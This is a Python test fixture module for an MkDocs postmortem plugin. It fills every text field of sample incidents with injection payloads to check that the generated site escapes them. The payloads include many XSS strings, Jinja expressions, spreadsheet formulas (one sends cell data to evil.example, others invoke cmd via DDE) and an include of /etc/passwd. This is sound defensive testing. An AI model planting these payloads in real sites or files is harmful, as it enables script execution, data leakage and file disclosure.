"""Script-injection payloads, and postmortems that carry them in every field that takes text.

``payload_incident`` walks the effective schema (the bundled one with the default scales) and
fills every string that accepts arbitrary text with a payload, cycling through ``PAYLOADS`` in
the schema's order, so the result is the same on every run. Fields with a format (ids, dates,
timestamps, times, timezones, languages, currencies) get valid values, enums their first value,
numbers a value in range: the document stays valid, so every payload reaches a page. Every mapping
also gets an ``x-`` extension holding a payload, and the top level carries a few showcases whose
rendering the tests know exactly (see ``payload_incident``).
"""

from __future__ import annotations

import html
import itertools
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from sites import Result, SiteBuilder

from mkdocs_postmortem.core.schema import SchemaWalker, effective_schema
from mkdocs_postmortem.core.settings import Settings
from mkdocs_postmortem.core.validate import SchemaValidator


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    shown: str | None
    """What a reader sees when the text is rendered as Markdown on its own (a list item);
    None when Markdown legitimately turns it into something else (a table, an image)."""


def _p(name: str, text: str, shown: str | None = "") -> Payload:
    return Payload(name, text, text if shown == "" else shown)


TABLE_CELL = (
    "cell-start | still the same cell\n| --- | --- | --- |\n| forged row | forged | forged |"
)
"""Pipes and newlines that would end a table cell, and a row of its own."""

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""Spreadsheet formulas (CSV injection): a cell must never start with = + - @ tab or CR."""

URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    'https://example.org/"><script>alert(1)</script>',
    'https://example.org/x" onmouseover="alert(1)',
    "https://example.org/(x)[y](javascript:alert(1))",
    '/relative/"onmouseover="alert(1)',
    '#"><img src=x onerror=alert(1)>',
    "<javascript:alert(1)>",
    "mailto:x@example.org?body=<script>alert(1)</script>",
)
"""Values for fields that hold a URL or reference (shown as a link when safe)."""
_URL_FIELDS = frozenset(
    {"tracking_issue", "location", "contact", "ticket", "reference", "status_page", "documentation"}
)

MARKDOWN_PAYLOADS: tuple[Payload, ...] = (
    # Where Markdown and a guess of it disagree: escapes, code spans across blank lines,
    # fences closed by another fence or by an indented one, tabs.
    _p("escaped-backtick", '\\`<img src=x onerror="window.__pwned=1;alert(1)">`', None),
    _p("span-over-blank-line", '`\n\n<img src=x onerror="window.__pwned=2">\n\n`', None),
    _p("fence-closed-longer", '```\n<svg onload="window.__pwned=3"></svg>\n````', None),
    _p("fence-tab-indented", '\t```\n<img src=x onerror="window.__pwned=4">\n\t```', None),
    _p("fence-mixed-chars", "~~~\n<img src=x onerror=alert(5)>\n```", None),
    _p("span-unbalanced", "``<img src=x onerror=alert(6)>` ``", None),
    _p("span-in-link-text", "[`](<img src=x onerror=alert(7)>)`", None),
    _p("indented-code", "    <img src=x onerror=alert(8)>", None),
    _p(
        "list-nested",
        "- item\n\n    <img src=x onerror=alert(9)>\n\n    - <svg onload=alert(10)>",
        None,
    ),
    _p("blockquote", "> <img src=x onerror=alert(11)>\n>\n> > <script>alert(12)</script>", None),
    _p("admonition", '!!! note "<img src=x onerror=alert(13)>"\n    <svg onload=alert(14)>', None),
    _p("details", "??? note\n    <img src=x onerror=alert(15)>", None),
    _p("table-html", "| a |\n| --- |\n| <img src=x onerror=alert(16)> |", None),
    _p("md-in-html", '<div markdown="1">\n<img src=x onerror=alert(17)>\n</div>', None),
    _p("definition", "Term\n:   <img src=x onerror=alert(18)>", None),
    _p("footnote", "Note[^1]\n\n[^1]: <img src=x onerror=alert(19)>", None),
    _p("abbreviation", "*[HTML]: <img src=x onerror=alert(20)>\n\nHTML", None),
    _p("tabbed", '=== "<img src=x onerror=alert(21)>"\n    <svg onload=alert(22)>', None),
    _p("details-ontoggle", "<details open ontoggle=alert(23)><summary>x</summary></details>", None),
    _p("backslash-tag", "\\<img src=x onerror=alert(24)>", None),
    _p("upper-case-tag", "<IMG SRC=x ONERROR=alert(25)>", None),
    _p("tag-over-lines", "<img\nsrc=x\nonerror=alert(26)>", None),
    _p("anchor-around-span", "<a href='x' onmouseover=alert(27)>`</a>`", None),
    _p("attr-list-block-code", '```{ onclick="alert(28)" }\ncode\n```', None),
    _p("superfences-attrs", '```{.python onclick="alert(29)"}\ncode\n```', None),
    _p("blocks-html", '/// html | div[onclick="alert(30)"]\nx\n///', None),
    _p("blocks-attrs", '/// admonition | t\n    attrs: {onclick: "alert(31)"}\nx\n///', None),
    _p(
        "mermaid-html-label",
        '```mermaid\ngraph LR\n  A["<img src=x onerror=alert(32)>"]\n```',
        None,
    ),
    _p("math-script", "$</script><img src=x onerror=alert(33)>$", None),
    _p("critic", "{++<img src=x onerror=alert(34)>++}", None),
    _p("html-entity-tag", "&#60;img src=x onerror=alert(35)&#62;", None),
)
"""Free text that a Markdown converter may read in more than one way: each may hold raw HTML
only as text, in every construct the site's extensions know."""

PAYLOADS: tuple[Payload, ...] = (
    *MARKDOWN_PAYLOADS,
    _p("script", "<script>alert(1)</script>"),
    _p("img-onerror", "<img src=x onerror=alert(1)>"),
    _p("md-link-javascript", "[click-js](javascript:alert(1))", "click-js"),
    _p("md-link-entity", "[click-entity](JaVaScRiPt&#58;alert(1))", "click-entity"),
    _p("md-link-hex-entity", "[click-hex](&#x6A;avascript:alert(1))", "click-hex"),
    _p("md-link-tab-entity", "[click-tab](javas&#x09;cript:alert(1))", "click-tab"),
    _p("md-link-spaces", "[click-space]( javascript:alert(1) )", "click-space"),
    _p("md-link-angle", "[click-angle](<javascript:alert(1)>)", "click-angle"),
    _p("md-image-javascript", "![img-js](javascript:alert(1))", None),
    _p("md-reference-link", "[click-ref][r1]\n\n[r1]: javascript:alert(1)", "click-ref"),
    _p("md-reference-angle", "[click-ref2][r2]\n\n[r2]: <javascript:alert(1)>", "click-ref2"),
    _p(
        "md-link-data",
        "[click-data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "click-data",
    ),
    _p("md-link-vbscript", "[click-vb](vbscript:msgbox(1))", "click-vb"),
    _p(
        "md-link-title",
        '[click-title](https://example.org/ "t\\" onmouseover=\\"alert(1)")',
        "click-title",
    ),
    _p("md-link-quote", '[click-quote](https://example.org/"onmouseover="alert(1))', "click-quote"),
    _p("svg-onload", "<svg onload=alert(1)>"),
    _p("attribute-breakout", '"><script>alert(1)</script>'),
    _p("single-quote-breakout", "' onmouseover='alert(1)"),
    _p("raw-anchor", '<a href="javascript:alert(1)">raw-anchor</a>'),
    _p(
        "raw-anchor-entity",
        '<a href="&#106;avascript:alert(1)">raw-entity</a>',
        '<a href="javascript:alert(1)">raw-entity</a>',  # an entity is Markdown; the tag is text
    ),
    _p("jinja-expression", "{{ 7*7 }}"),
    _p("jinja-raw", "{% raw %}"),
    _p("jinja-loop", "{% for x in range(3) %}loop{% endfor %}"),
    _p("attr-list-inline", '*emph*{: onclick="alert(1)" }', 'emph{: onclick="alert(1)" }'),
    _p(
        "attr-list-block", 'Paragraph\n{: onclick="alert(1)" }', 'Paragraph {: onclick="alert(1)" }'
    ),
    _p(
        "attr-list-heading",
        "# Heading { onmouseover=alert(1) }",
        "Heading { onmouseover=alert(1) }",
    ),
    _p("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _p("autolink-javascript", "<javascript:alert(1)>"),
    _p(  # an autolink: the link's text is the URL, without its brackets
        "autolink-breakout",
        '<https://example.org/"onmouseover="alert(1)>',
        'https://example.org/"onmouseover="alert(1)',
    ),
    _p("html-comment", "<!-- hidden comment -->"),
    _p("table-cell", TABLE_CELL, None),
    _p("style", '<style>body{background:url("javascript:alert(1)")}</style>'),
    _p(
        "form",
        '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    ),
    _p("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    _p(
        "object-embed",
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    ),
    _p("markdown-in-html", '<div markdown="1" onclick="alert(1)">md-in-html</div>'),
    _p("nested-script", "<<script>script>alert(1)<</script>/script>"),
    _p("close-title", "</title><script>alert(1)</script>"),
    _p("close-script", "</script><script>alert(1)</script>\u2028"),
    _p("entities", "&lt;script&gt;alert(1)&lt;/script&gt;", None),
    _p("bare-javascript", "javascript:alert(1)"),
    _p(
        "mermaid-fence",
        "```mermaid\ngraph LR\n  A-->B\n  click A call alert(1)\n```",
        "graph LR A-->B click A call alert(1)",
    ),
    _p(
        "fence-breakout",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "</code></pre><script>alert(1)</script>",
    ),
    _p("snippet-include", '--8<-- "/etc/passwd"'),
    _p(
        "block-syntax",
        '/// html | div[onclick="alert(1)"]\nblock\n///',
        '/// html | div[onclick="alert(1)"] block ///',
    ),
    _p("marker", "window.__pwned=1"),
    *(_p(f"formula-{n}", text) for n, text in enumerate(FORMULAS)),
    # As Markdown, an entity shows as its character, [y](...) as a link, a leading # as a heading.
    *(
        _p(f"url-{n}", t, None if "[" in t else html.unescape(t).lstrip("#"))
        for n, t in enumerate(URLS)
    ),
)

TITLE = "\"><script>alert(1)</script><img src=x onerror=alert(1)> {{ 7*7 }} ' onmouseover='alert(1) | </title><svg onload=alert(1)>"
"""The incident title: a breakout from every context a title lands in (heading, <title>,
attributes, table cells, JSON)."""

SECOND_TITLE = '=HYPERLINK("https://evil.example","x") <iframe src=javascript:alert(1)> [t](javascript:alert(1))'
"""A title that starts like a spreadsheet formula."""

DATE = "2026-02-14"
TIMESTAMPS = {
    "triggered": "2026-02-14T09:58:00Z",
    "started": "2026-02-14T10:00:00Z",
    "detected": "2026-02-14T10:05:00Z",
    "acknowledged": "2026-02-14T10:07:00Z",
    "mitigated": "2026-02-14T10:30:00Z",
    "recovered": "2026-02-14T10:45:00Z",
    "resolved": "2026-02-14T11:00:00Z",
}
_BY_NAME = {
    "timezone": "Europe/Berlin",
    "currency": "EUR",
    "time": "10:15",
    "language": "mermaid",  # never a diagram: code from a postmortem stays code
}
_EXTENSION_KEYS = (
    "x-<img src=x onerror=alert(1)>",
    "x-{{ 7*7 }}",
    'x-"><script>alert(1)</script>',
)


def settings() -> Settings:
    return Settings(docs_dir=".", project_dir=".")


def validator() -> SchemaValidator:
    return SchemaValidator(effective_schema(settings()))


class _Filler:
    def __init__(self, incident_id: str, related: Sequence[str], texts: Sequence[str]) -> None:
        self.incident_id = incident_id
        self.related = list(related)
        self.texts = list(texts)
        self.cycle: Iterator[str] = itertools.cycle(self.texts)
        urls = [t for t in self.texts if t in URLS] or self.texts
        self.url_cycle: Iterator[str] = itertools.cycle(urls)
        self.walker = SchemaWalker(effective_schema(settings()))
        self.filled: list[tuple[str | int, ...]] = []

    def text(self, path: tuple[str | int, ...], max_length: int | None = None) -> str:
        """The next payload that fits."""
        for _ in range(len(self.texts)):
            value = next(self.cycle)
            if max_length is None or len(value) <= max_length:
                self.filled.append(path)
                return value
        raise ValueError(f"no payload fits in {max_length} characters ({path})")

    def value(self, node: Mapping[str, Any], path: tuple[str | int, ...]) -> Any:
        ref = str(node.get("$ref", "")).removeprefix("#/$defs/")
        node = self.walker.resolve(node)
        name = next((p for p in reversed(path) if isinstance(p, str)), "")
        if path == ("id",):
            return self.incident_id
        if path == ("title",):
            return self.text(path, node.get("maxLength"))
        if "enum" in node:
            return node["enum"][0]
        if str(node.get("x-kind", "")).startswith("moment"):
            # A valid time (the page reads it), with a payload in its note, which is text.
            at = TIMESTAMPS.get(name, DATE if name == "date" else "10:15")
            return {"at": at, "note": self.text((*path, "note"))}
        if any(o.get("type") == ["number", "string"] for o in node.get("anyOf", [])):
            return self.text(path, node.get("maxLength"))  # a value: a number or any text
        numbers = [o for o in node.get("anyOf", []) if o.get("type") in ("integer", "number")]
        if numbers and "type" not in node:
            # A figure: a number with a payload as its unit and note.
            return {
                "value": self.value(numbers[0], path),
                "unit": self.text((*path, "unit"), 40),
                "note": self.text((*path, "note")),
            }
        if "anyOf" in node and "type" not in node:
            return self.value(self.walker.object_branch(node), path)
        kind = node.get("type")
        if kind == "object":
            return self.mapping(node, path)
        if kind == "array":
            return self.array(node, path)
        if kind == "string" and ("pattern" in node or "format" in node):
            return self.constrained(node, ref, name, path)
        if kind == "string" and (ref == "url" or name in _URL_FIELDS):
            self.filled.append(path)
            return next(self.url_cycle)
        if kind == "string" or kind == ["number", "string"]:
            return self.text(path, node.get("maxLength"))
        if kind == "integer":
            return int(node.get("minimum", 0)) + 7
        if kind == "number":
            return min(float(node.get("minimum", 0)) + 12.5, float(node.get("maximum", 1e9)))
        if kind == "boolean":
            return True
        raise ValueError(f"no payload for the schema node at {path}: {node}")

    def constrained(
        self, node: Mapping[str, Any], ref: str, name: str, path: tuple[str | int, ...]
    ) -> str:
        if node.get("format") == "postmortem-timestamp":
            value = TIMESTAMPS[name]
        elif node.get("format") == "date" or ref == "duePeriod":
            value = DATE
        elif ref == "incidentRef":
            value = self.related[0] if self.related else self.incident_id
        elif name in _BY_NAME:
            value = _BY_NAME[name]
        else:
            raise ValueError(f"no valid value known for {path}")
        if not re.search(str(node.get("pattern", "")), value):
            raise ValueError(f"{value!r} does not match the pattern of {path}")
        return value

    def mapping(self, node: Mapping[str, Any], path: tuple[str | int, ...]) -> dict[str, Any]:
        out: dict[str, Any] = {}
        for name, child in node.get("properties", {}).items():
            if path == () and name == "related_incidents":
                if self.related:
                    out[name] = [
                        {"id": other, **self.mapping(self._relation(), (name, n))}
                        for n, other in enumerate(self.related)
                    ]
                continue
            out[name] = self.value(child, (*path, name))
        out["x-note"] = self.text((*path, "x-note"))
        return out

    def _relation(self) -> Mapping[str, Any]:
        items = self.walker.resolve(self.walker.root["properties"]["related_incidents"])["items"]
        branch = self.walker.object_branch(items)
        return {
            **branch,
            "properties": {k: v for k, v in branch["properties"].items() if k != "id"},
        }

    def array(self, node: Mapping[str, Any], path: tuple[str | int, ...]) -> list[Any]:
        items = self.walker.resolve(node.get("items", {}))
        # One entry of each form (a string, a mapping...), else two entries.
        if "anyOf" in items and "type" not in items:
            return [self.value(option, (*path, n)) for n, option in enumerate(items["anyOf"])]
        return [self.value(items, (*path, n)) for n in range(2)]


def payload_incident(
    incident_id: str,
    *,
    related: Sequence[str] = (),
    title: str = TITLE,
    texts: Sequence[str] | None = None,
) -> dict[str, Any]:
    """A valid postmortem with a payload in every text field.

    ``related``: ids of other incidents it declares relations to (they must be in the archive).
    ``texts``: the texts to cycle through (default: every payload); a harmless list gives the
    same document shape, for comparing pages with and without payloads.

    Besides the cycled fields, some places hold known payloads, to check how they render:
    ``lessons.learned`` (each payload a Markdown list item), ``pattern_notes`` (every payload,
    a paragraph each, in one Markdown text), ``x-payloads`` (every payload as a plain value)
    the first ``timeline`` event and the first alert's note (the table-cell payload). ``action_items`` gets an
    item whose every text is a spreadsheet formula.
    """
    all_texts = [p.text for p in PAYLOADS] if texts is None else list(texts)
    filler = _Filler(incident_id, related, all_texts)
    data = filler.mapping(filler.walker.root, ())
    data["title"] = title
    data["lessons"]["learned"] = list(all_texts)
    data["pattern_notes"] = "\n\n".join(all_texts)
    data["x-payloads"] = {f"p{n:02d}": text for n, text in enumerate(all_texts)}
    data["timeline"][0]["event"] = TABLE_CELL if texts is None else all_texts[0]
    data["detection"]["alerts"][0]["note"] = TABLE_CELL if texts is None else all_texts[0]
    formulas = FORMULAS if texts is None else all_texts[: len(FORMULAS)]
    data["action_items"].append(
        {
            "id": formulas[0],
            "action": formulas[1],
            "owner": formulas[2],
            "ticket": formulas[3],
            "notes": formulas[4],
            "x-note": formulas[5],
        }
    )
    for n, key in enumerate(_EXTENSION_KEYS):
        data[key if texts is None else f"x-key-{n}"] = {
            all_texts[n % len(all_texts)]: [all_texts[(n + 1) % len(all_texts)]]
        }
    issues = validator().issues(data)
    if issues:
        raise ValueError(f"the payload incident is not valid: {issues[:5]}")
    return data


def filled_paths(incident_id: str = "INC-PAYLOAD") -> list[tuple[str | int, ...]]:
    """Every path the walker put a payload at (for tests of the walker itself)."""
    filler = _Filler(incident_id, (), [p.text for p in PAYLOADS])
    filler.mapping(filler.walker.root, ())
    return filler.filled


# Archives: two payload incidents related to each other, and a plain neighbour.

FIRST, SECOND = "INC-PAYLOAD-1", "INC-PAYLOAD-2"
HARMLESS = tuple(f"harmless text {n:02d}" for n in range(len(PAYLOADS)))
"""Texts of the same count, for the harmless twin of the payload archive."""


@dataclass(frozen=True)
class Archive:
    result: Result
    data: dict[str, dict[str, Any]]
    """The postmortems as written, by id."""


_ARCHIVES: dict[bool, Archive] = {}


def payload_archive(tmp_path_factory: pytest.TempPathFactory, *, harmless: bool = False) -> Archive:
    """The payload archive (or its harmless twin: same shape, harmless texts), built once per
    test session with --strict, shared by the tests that only read it."""
    if harmless not in _ARCHIVES:
        site = SiteBuilder(tmp_path_factory.mktemp("harmless" if harmless else "payloads") / "p")
        # Every field is filled, the exercise marker too: count exercises, so that their
        # action items are in the ledger and its CSV like a real incident's.
        site.plugin_options = {"count_exercises": True}
        texts = HARMLESS if harmless else None
        first_title, second_title = ("One", "Two") if harmless else (TITLE, SECOND_TITLE)
        data = {
            FIRST: payload_incident(FIRST, related=[SECOND], title=first_title, texts=texts),
            SECOND: payload_incident(SECOND, title=second_title, texts=texts),
        }
        site.incident("neighbour", id="INC-NEIGHBOUR", title="Plain neighbour", date="2026-01-02")
        for name, incident in zip(("first", "second"), data.values(), strict=True):
            text = yaml.safe_dump(incident, sort_keys=False, allow_unicode=True, width=1000)
            site.add(f"postmortems/{name}.yaml", text)
        result = site.build(strict=True)
        assert not result.aborted, result.warnings
        _ARCHIVES[harmless] = Archive(result, data)
    return _ARCHIVES[harmless]
